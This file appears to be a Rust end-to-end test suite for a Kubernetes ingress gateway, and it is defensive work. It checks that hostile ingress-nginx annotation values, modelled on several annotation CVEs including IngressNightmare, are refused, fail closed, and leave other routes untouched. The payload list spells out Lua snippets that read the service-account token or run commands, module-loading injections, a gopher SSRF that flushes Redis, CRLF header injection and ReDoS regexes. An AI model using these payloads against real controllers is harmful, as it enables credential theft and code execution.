//! Hostile annotation values: the payloads of ingress-nginx's annotation CVEs, newline and brace
//! injection, huge values and pathological regular expressions. Each is refused with a warning
//! naming its Ingress and annotation, its route serves as if the annotation were absent (or,
//! for an access or authentication annotation, is closed with 503: it fails closed), and
//! every other route is untouched. The gateway has no configuration template, so there is
//! nothing to inject into; these tests keep it that way.

use gateway_e2e::backend::Backend;
use gateway_e2e::client::HttpClient;
use gateway_e2e::gateway::{Gateway, binary};
use gateway_e2e::manifests::{ManifestsDir, annotated_ingress, ingress, service};
use hyper::StatusCode;

/// One hostile value: the annotation, the value, words of the reason it is refused, and the
/// annotations it needs beside it to be read at all.
struct Payload {
    annotation: &'static str,
    value: String,
    reason: &'static str,
    beside: &'static [(&'static str, &'static str)],
}

/// Whether a refused `annotation` closes its route (access and authentication rules).
fn fails_closed(annotation: &str) -> bool {
    matches!(
        annotation,
        "whitelist-source-range" | "denylist-source-range"
    ) || (annotation.starts_with("auth-") && annotation != "auth-snippet")
}

fn payloads() -> Vec<Payload> {
    let alone = |(annotation, value, reason): (&'static str, String, &'static str)| Payload {
        annotation,
        value,
        reason,
        beside: &[],
    };
    let mut list: Vec<Payload> = plain_payloads().into_iter().map(alone).collect();
    list.extend([
        Payload {
            annotation: "cors-allow-origin",
            value: "*; more_set_headers X-Injected:1".into(),
            reason: "scheme://host",
            beside: &[("enable-cors", "true")],
        },
        Payload {
            annotation: "auth-response-headers",
            value: "X-User: root, X-Groups".into(),
            reason: "not a header name",
            beside: &[("auth-url", "http://auth.test/verify")],
        },
        Payload {
            annotation: "auth-signin",
            value: "javascript:alert(document.cookie)".into(),
            reason: "http(s) URL",
            beside: &[("auth-url", "http://auth.test/verify")],
        },
        Payload {
            annotation: "auth-secret",
            value: "kube-system/admin-users".into(),
            reason: "another namespace",
            beside: &[("auth-type", "basic")],
        },
        Payload {
            annotation: "session-cookie-name",
            value: "route; Path=/; X-Injected".into(),
            reason: "not a cookie name",
            beside: &[("affinity", "cookie")],
        },
        Payload {
            annotation: "canary-by-header-pattern",
            value: "(a{1000}){1000}".into(),
            reason: "too large",
            beside: &[("canary", "true"), ("canary-by-header", "x-canary")],
        },
    ]);
    list
}

/// (annotation, value, words of the reason it is refused).
fn plain_payloads() -> Vec<(&'static str, String, &'static str)> {
    let nested = format!("/{}a{}", "(".repeat(200), ")".repeat(200));
    vec![
        // CVE-2021-25742: a snippet reading the service account token.
        (
            "configuration-snippet",
            "content_by_lua_block { ngx.say(io.open('/var/run/secrets/kubernetes.io/serviceaccount/token'):read('*a')) }".into(),
            "configuration snippets are never applied",
        ),
        ("server-snippet", "location /secrets { alias /var/run/secrets/; }".into(), "never applied"),
        ("auth-snippet", "proxy_set_header X-Injected 1;".into(), "never applied"),
        // CVE-2023-5044: a newline in permanent-redirect closing the location block.
        (
            "permanent-redirect",
            "https://example.com;\n}\nlocation ~* ^/aaa {\n content_by_lua 'ngx.say(io.popen(\"id\"):read(\"*a\"))';\n}\nlocation /x {".into(),
            "control character",
        ),
        // CVE-2025-1974 / CVE-2025-24514 (IngressNightmare): auth-url loading a module.
        (
            "auth-url",
            "http://example.com/#;\nload_module /tmp/evil.so;".into(),
            "control character",
        ),
        ("auth-url", "http://example.com/#;load_module /tmp/evil.so;".into(), "not a valid URL"),
        // Authentication values that would send credentials elsewhere or forge headers.
        ("auth-url", "file:///var/run/secrets/kubernetes.io/serviceaccount/token".into(), "http:// or https://"),
        ("auth-url", "gopher://127.0.0.1:6379/_FLUSHALL".into(), "http:// or https://"),
        ("auth-url", "http://$http_x_target/verify".into(), "plain URL"),
        ("auth-url", "http://attacker@auth.test/".into(), "credentials"),
        ("auth-type", "digest".into(), "not supported"),
        // CVE-2025-1097: auth-tls-match-cn; CVE-2025-1098: mirror-target.
        ("auth-tls-match-cn", "CN=a$|}\nload_module /x.so;#".into(), "control character"),
        ("mirror-target", "http://x/; } load_module /x.so; #".into(), "not a valid URL"),
        ("mirror-target", "http://$http_x_target/$request_uri".into(), "plain URL"),
        // Brace and semicolon injection into values the gateway does support.
        ("rewrite-target", "/$1 } location /x { return 200".into(), "not allowed in a rewrite target"),
        ("upstream-vhost", "example.com; proxy_pass http://evil".into(), "host name or address"),
        ("x-forwarded-prefix", "/a\"; more_set_headers \"X-Injected: 1".into(), "not a valid URL path"),
        ("custom-http-errors", "404;return 200".into(), "whole number"),
        ("app-root", "/app\r\nX-Injected: 1".into(), "control character"),
        ("canary-by-header", "X-Header\u{0}".into(), "control character"),
        // Header injection through CR/LF.
        ("upstream-vhost", "a.com\r\nX-Injected: 1".into(), "control character"),
        // Huge values.
        ("permanent-redirect", format!("https://example.com/{}", "a".repeat(1 << 20)), "longer than 4096 bytes"),
        ("limit-rps", "9".repeat(40), "whole number"),
        ("proxy-body-size", "99999999999999999999g".into(), "size"),
        // Regular expressions: too large once compiled, too deeply nested.
        ("use-regex", "true, please".into(), "must be \"true\" or \"false\""),
        ("whitelist-source-range", "0.0.0.0/0; allow all".into(), "prefix length must be 0-32"),
        ("denylist-source-range", "10.0.0.0/8\n".into(), "control character"),
        ("limit-whitelist", nested, "not an IP address"),
    ]
}

/// Ingresses that pass every annotation check but whose paths are hostile regular expressions.
fn hostile_regex_paths() -> Vec<(&'static str, &'static str)> {
    vec![
        ("/(a{1000}){1000}", "too large"),
        (
            "/((((((((((((((((((((((((((((((((((a))))))))))))))))))))))))))))))))))",
            "not a valid regular expression",
        ),
        ("/[", "not a valid regular expression"),
    ]
}

#[tokio::test(flavor = "multi_thread")]
async fn every_hostile_value_is_refused_and_nothing_else_changes() {
    let web = Backend::start("web").await;
    let dir = ManifestsDir::new();
    let mut yaml =
        service("web", &[web.addr]) + &ingress("clean", Some("clean.test"), "/", "Prefix", "web");
    let payloads = payloads();
    for (i, payload) in payloads.iter().enumerate() {
        let host = format!("h{i}.test");
        let mut annotations = vec![(payload.annotation, payload.value.as_str())];
        annotations.extend(payload.beside.iter().copied());
        yaml += &annotated_ingress(
            &format!("hostile-{i}"),
            Some(&host),
            &[("/", "Prefix")],
            "web",
            &annotations,
        );
        if payload.beside.contains(&("canary", "true")) {
            // A canary needs a main Ingress for its host and path.
            yaml += &ingress(&format!("main-{i}"), Some(&host), "/", "Prefix", "web");
        }
    }
    let regex_paths = hostile_regex_paths();
    for (i, (path, _)) in regex_paths.iter().enumerate() {
        yaml += &annotated_ingress(
            &format!("regex-{i}"),
            Some(&format!("r{i}.test")),
            &[(path, "ImplementationSpecific")],
            "web",
            &[("use-regex", "true")],
        );
    }
    dir.write("hostile.yaml", &yaml);
    let gw = Gateway::start(dir.path(), &["--access-log", "off"]);
    let routes = gw.routes();
    let warnings = routes["warnings"].as_array().unwrap();

    for (
        i,
        Payload {
            annotation,
            value,
            reason,
            ..
        },
    ) in payloads.iter().enumerate()
    {
        let object = format!("ingress default/hostile-{i}");
        let field = format!("metadata.annotations[\"nginx.ingress.kubernetes.io/{annotation}\"]");
        let warning = warnings
            .iter()
            .find(|w| w["object"] == object.as_str() && w["field"] == field.as_str())
            .unwrap_or_else(|| panic!("no warning for {annotation}={value:?}: {routes:#}"));
        let message = warning["message"].as_str().unwrap();
        assert!(message.contains(reason), "{annotation}: {message}");
        assert!(
            message.len() < 400,
            "a huge value is not echoed whole: {} bytes",
            message.len()
        );

        // An access or authentication annotation that cannot be applied closes its route;
        // any other route serves as if the annotation were not there: plain proxying, nothing
        // injected, no redirect.
        let answer = HttpClient::new()
            .get(gw.http, &format!("h{i}.test"), "/x")
            .await;
        if fails_closed(annotation) {
            assert_eq!(
                answer.status,
                StatusCode::SERVICE_UNAVAILABLE,
                "{annotation}"
            );
            assert!(message.contains("answers 503"), "{annotation}: {message}");
            continue;
        }
        assert_eq!(
            answer.status,
            StatusCode::OK,
            "{annotation}: {}",
            answer.body
        );
        let seen = answer.json();
        assert_eq!(seen["uri"], "/x", "{annotation}");
        assert!(seen["headers"].get("x-injected").is_none(), "{annotation}");
        assert!(!answer.headers.contains_key("x-injected"), "{annotation}");
    }
    for (i, (path, reason)) in regex_paths.iter().enumerate() {
        let object = format!("ingress default/regex-{i}");
        let warning = warnings
            .iter()
            .find(|w| w["object"] == object.as_str())
            .unwrap_or_else(|| panic!("no warning for the path {path}: {routes:#}"));
        let message = warning["message"].as_str().unwrap();
        assert!(message.contains(reason), "{path}: {message}");
        // Matched literally instead: the literal path works, nothing else does.
        let answer = HttpClient::new()
            .get(gw.http, &format!("r{i}.test"), "/other")
            .await;
        assert_eq!(answer.status, StatusCode::NOT_FOUND, "{path}");
    }
    assert_eq!(
        warnings.len(),
        payloads.len() + regex_paths.len(),
        "{routes:#}"
    );
    let clean = HttpClient::new().get(gw.http, "clean.test", "/").await;
    assert_eq!(clean.status, StatusCode::OK);

    // `gateway check` refuses the same folder, naming the same problems.
    let check = std::process::Command::new(binary("gateway"))
        .args(["check", "--json", "--manifests"])
        .arg(dir.path())
        .output()
        .unwrap();
    assert_eq!(check.status.code(), Some(1));
    let report: serde_json::Value = serde_json::from_slice(&check.stdout).unwrap();
    assert_eq!(
        report["summary"]["problems"].as_u64(),
        Some(warnings.len() as u64)
    );
}
